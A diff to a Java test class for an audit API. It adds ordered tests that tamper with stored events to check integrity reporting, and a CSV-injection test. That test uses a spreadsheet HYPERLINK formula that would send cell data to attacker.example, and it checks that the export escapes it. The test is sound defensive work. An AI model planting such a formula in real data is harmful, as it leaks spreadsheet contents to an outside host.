@@ -5,7 +5,10 @@ import com.vendorsla.standalone.support.StandaloneHttpTest;
 import org.axonframework.eventhandling.GenericDomainEventMessage;
 import org.axonframework.eventsourcing.eventstore.EventStore;
 import org.axonframework.messaging.MetaData;
+import org.junit.jupiter.api.MethodOrderer;
+import org.junit.jupiter.api.Order;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestMethodOrder;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.test.annotation.DirtiesContext;
 import tools.jackson.databind.JsonNode;
@@ -25,6 +28,7 @@ import static org.assertj.core.api.Assertions.assertThat;
  * and proof that the stored record was not altered, removed or reordered.
  */
 @DirtiesContext
+@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
 class AuditHttpTest extends StandaloneHttpTest {
 
     static final String COLUMNS = "globalIndex,aggregateId,aggregateType,sequence,type,typeName,revision,occurredAt,"
@@ -227,7 +231,9 @@ class AuditHttpTest extends StandaloneHttpTest {
         assertThat(get("auditor", "/api/audit/events?from=yesterday").status()).isEqualTo(400);
     }
 
+    /** Runs after the tests that read untampered chains, and before the other tampering test: it counts every chain. */
     @Test
+    @Order(Integer.MAX_VALUE - 1)
     void integrityVerification_namesTheFirstBrokenLinkOfAlteredDeletedAndReorderedEvents() {
         String vendorId = vendor("Integrity Ltd");
         List<String> agreements = new ArrayList<>();
@@ -276,6 +282,59 @@ class AuditHttpTest extends StandaloneHttpTest {
                 reordered + "@1", emptied + "@0");
         assertThat(get("auditor", "/api/audit/integrity?aggregateId=" + vendorId).json().get("verified").asBoolean()).isTrue();
         assertThat(get("auditor", "/api/audit/integrity?aggregateId=agr-" + UUID.randomUUID()).status()).isEqualTo(404);
+    }
+
+    @Test
+    @Order(Integer.MAX_VALUE)
+    void anAgreementsIntegrityCoversItsPeriods_andNamesTheAlteredPeriodEvent() {
+        String agreementId = draft(vendor("Chained Periods Ltd"));
+        String uuid = agreementId.substring(4);
+        String february = "prd-" + uuid + "-2026-02";
+        String march = "prd-" + uuid + "-2026-03";
+        append("PerformancePeriod", february, 0, 3, "legal");
+        append("PerformancePeriod", march, 0, 2, "legal");
+        String otherAgreementsPeriod = "prd-" + UUID.randomUUID() + "-2026-02";
+        append("PerformancePeriod", otherAgreementsPeriod, 0, 1, "legal");
+
+        JsonNode intact = get("auditor", "/api/agreements/" + agreementId + "/integrity").json();
+        assertThat(intact.get("verified").asBoolean()).as(intact.toString()).isTrue();
+        assertThat(intact.get("events").asLong()).isEqualTo(6);
+        assertThat(intact.get("aggregates").asLong()).isEqualTo(3);
+
+        tamper("""
+                UPDATE domain_event_entry SET payload = convert_to(replace(convert_from(payload, 'UTF8'), 'note 1', 'note 7'), 'UTF8')
+                WHERE aggregate_identifier = '%s' AND sequence_number = 1""".formatted(march));
+        JsonNode broken = get("auditor", "/api/agreements/" + agreementId + "/integrity").json();
+        assertThat(broken.get("verified").asBoolean()).isFalse();
+        assertThat(broken.get("firstBroken").get("aggregateId").asText()).isEqualTo(march);
+        assertThat(broken.get("firstBroken").get("sequence").asLong()).isEqualTo(1);
+        assertThat(broken.get("firstBroken").get("reason").asText()).isEqualTo("HASH_MISMATCH");
+        assertThat(broken.get("brokenAggregates").asLong()).isEqualTo(1);
+
+        tamper("DELETE FROM domain_event_entry WHERE aggregate_identifier = '%s'".formatted(february));
+        List<String> links = new ArrayList<>();
+        get("auditor", "/api/agreements/" + agreementId + "/integrity").json().get("brokenLinks")
+                .forEach(link -> links.add(link.get("aggregateId").asText() + "@" + link.get("sequence").asLong()
+                        + ":" + link.get("reason").asText()));
+        assertThat(links).containsExactly(february + "@0:EVENT_MISSING", march + "@1:HASH_MISMATCH");
+
+        assertThat(get("auditor", "/api/agreements/agr-" + UUID.randomUUID() + "/integrity").status()).isEqualTo(404);
+        assertThat(get("auditor", "/api/agreements/not-an-id/integrity").status()).isEqualTo(404);
+        assertThat(get(null, "/api/agreements/" + agreementId + "/integrity").status()).isEqualTo(401);
+    }
+
+    @Test
+    void aReasonTypedAsASpreadsheetFormula_isExportedAsTextInCsv_andExactlyInJson() throws Exception {
+        String formula = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"details\")";
+        String vendorId = vendor("Formula Ltd", "X-Comment", formula);
+        JsonNode json = history("/api/vendors/" + vendorId + "/history", 0);
+        assertThat(json.get(0).get("reason").asText()).isEqualTo(formula);
+
+        Reply csv = get("auditor", "/api/vendors/" + vendorId + "/history", "Accept", "text/csv");
+        Map<String, String> row = Csv.rows(csv.body()).get(0);
+        assertThat(row.get("reason")).isEqualTo("'" + formula);
+        assertThat(row.get("globalIndex")).isEqualTo(json.get(0).get("globalIndex").asText());
+        assertThat(JSON.readTree(row.get("payload"))).isEqualTo(json.get(0).get("payload"));
     }
 
     private void assertBroken(String aggregateId, long sequence, String reason) {
